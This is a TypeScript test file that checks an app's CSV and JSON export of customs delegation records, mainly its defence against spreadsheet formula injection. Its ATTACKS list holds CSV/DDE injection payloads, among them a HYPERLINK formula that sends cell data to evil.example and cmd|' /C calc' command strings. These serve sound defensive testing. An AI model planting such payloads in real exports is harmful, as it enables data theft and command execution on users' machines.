import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { CSV_HEADERS, DelegationCache, neutraliseFormula } from '../../src/main/cache'
import type { Delegation } from '../../src/shared/delegation'
import { generateDelegations } from './cache-fixtures'

// Export of the current query: CSV parsed back with an independent RFC 4180 reader, formula
// injection neutralised, JSON round trip.

/** RFC 4180: quoted fields may hold commas, CR/LF and doubled quotes; records end with CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  let field = ''
  let i = 0
  let quoted = false
  while (i < text.length) {
    const c = text[i] as string
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i += 2
    } else if (quoted && c === '"') {
      quoted = false
      i++
    } else if (quoted) {
      field += c
      i++
    } else if (c === '"') {
      quoted = true
      i++
    } else if (c === ',') {
      record.push(field)
      field = ''
      i++
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field)
      records.push(record)
      record = []
      field = ''
      i += 2
    } else {
      field += c
      i++
    }
  }
  if (field !== '' || record.length > 0) throw new Error('CSV does not end with CRLF')
  return records
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  'normal, "quoted" text\r\nsecond line',
  '藍牙耳機 2 個'
]

let dir: string
let cache: DelegationCache
let rows: Delegation[]
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'cache-export-'))
  cache = DelegationCache.open({ userDataDir: dir, accountId: 'demo', now: () => new Date('2025-07-01T00:00:00Z') })
  rows = generateDelegations({ count: 120, seed: 21 }).map((d, i) => {
    const attack = ATTACKS[i % ATTACKS.length] as string
    return i < ATTACKS.length * 3
      ? {
          ...d,
          goodsDescription: attack,
          carrier: attack,
          houseBillNo: i % 2 === 0 ? `=${d.houseBillNo}` : d.houseBillNo,
          status: 'MISMATCH',
          reason: attack
        }
      : d
  })
  cache.upsert(rows)
})
afterEach(() => {
  cache.close()
  rmSync(dir, { recursive: true, force: true })
})

describe('cache export', () => {
  it('neutralises every cell a spreadsheet would evaluate, and only those', () => {
    for (const a of ATTACKS.slice(0, 11)) expect(neutraliseFormula(a), JSON.stringify(a)).toBe(`'${a}`)
    for (const ok of ['藍牙耳機', 'AB1234567890', '', "'already", ' =spaced']) expect(neutraliseFormula(ok)).toBe(ok)
  })

  it('writes UTF-8 CSV with BOM, CRLF, zh-TW headers, every row of the query in its order, no cell starting a formula', () => {
    const file = join(dir, '委任紀錄.csv')
    const q = { status: 'MISMATCH' as const, sort: 'houseBillNo:asc', page: 2, pageSize: 10 }
    const n = cache.exportCsv(q, file)
    const bytes = readFileSync(file)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const records = parseCsv(bytes.subarray(3).toString('utf8'))
    expect(records[0]).toEqual([...CSV_HEADERS])
    const body = records.slice(1)
    // All pages of the query, not just the page on screen.
    const all = cache.query({ ...q, page: 1, pageSize: 500 })
    expect(n).toBe(all.total)
    expect(body).toHaveLength(all.total)
    expect(all.total).toBeGreaterThan(ATTACKS.length * 3 - 1)
    expect(body.map((r) => r[14])).toEqual(all.items.map((d) => d.id))

    const dangerous = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/
    for (const [k, r] of body.entries()) {
      const d = all.items[k] as Delegation
      expect(r).toHaveLength(CSV_HEADERS.length)
      for (const cell of r) expect(dangerous.test(cell), `row ${k}: ${JSON.stringify(cell)}`).toBe(false)
      // The text survives: apostrophe-prefixed exactly when it was dangerous.
      expect(r[1]).toBe(neutraliseFormula(d.houseBillNo))
      expect(r[4]).toBe(neutraliseFormula(d.carrier))
      expect(r[5]).toBe(neutraliseFormula(d.goodsDescription))
      expect(r[10]).toBe(neutraliseFormula(d.reason ?? ''))
      expect(r[9]).toBe('申報不符')
      expect(r[3]).toBe(d.direction === 'IMPORT' ? '進口' : '出口')
      expect(Number(r[6])).toBe(d.quantity)
      expect(Number(r[7])).toBe(d.declaredValue)
      expect(r[0]).toBe(d.declarationDate.replaceAll('-', '/'))
      expect(r[13]).toMatch(/^\d{4}\/\d{2}\/\d{2} \d{2}:\d{2}$/)
      expect(Date.parse(`${r[13]?.replaceAll('/', '-').replace(' ', 'T')}:00+08:00`)).toBe(
        Math.floor(Date.parse(d.updatedAt) / 60_000) * 60_000
      )
    }
    // Every quoted field is really quoted in the raw text (Excel-safe quoting), including the multi-line one.
    expect(bytes.toString('utf8')).toContain('"normal, ""quoted"" text\r\nsecond line"')
    expect(readdirSync(dir).filter((f) => f.includes('.partial'))).toEqual([])
  })

  it('writes JSON with the query and every matching row, which reads back equal', () => {
    const file = join(dir, 'export.json')
    const q = { direction: 'IMPORT' as const, sort: 'declaredValue:desc' }
    const n = cache.exportJson(q, file)
    const parsed = JSON.parse(readFileSync(file, 'utf8')) as {
      exportedAt: string
      lastSyncedAt: string | null
      query: unknown
      items: Delegation[]
    }
    const all = cache.query({ ...q, pageSize: 500 })
    expect(n).toBe(all.total)
    // Instants in Taipei's offset: the same instants, the clock time people in Taiwan read.
    const instant = (v: string | null): number | null => (v === null ? null : Date.parse(v))
    expect(
      parsed.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) }))
    ).toEqual(all.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) })))
    for (const d of parsed.items) expect(d.updatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+08:00$/)
    expect(parsed.exportedAt).toBe('2025-07-01T08:00:00.000+08:00')
    expect(parsed.query).toEqual({ direction: 'IMPORT', sort: 'declaredValue:desc' })
  })

  it('leaves no file behind when the export cannot be written', () => {
    const file = join(dir, 'missing-folder', 'x.csv')
    expect(() => cache.exportCsv({}, file)).toThrow()
    expect(existsSync(file)).toBe(false)
  })
})
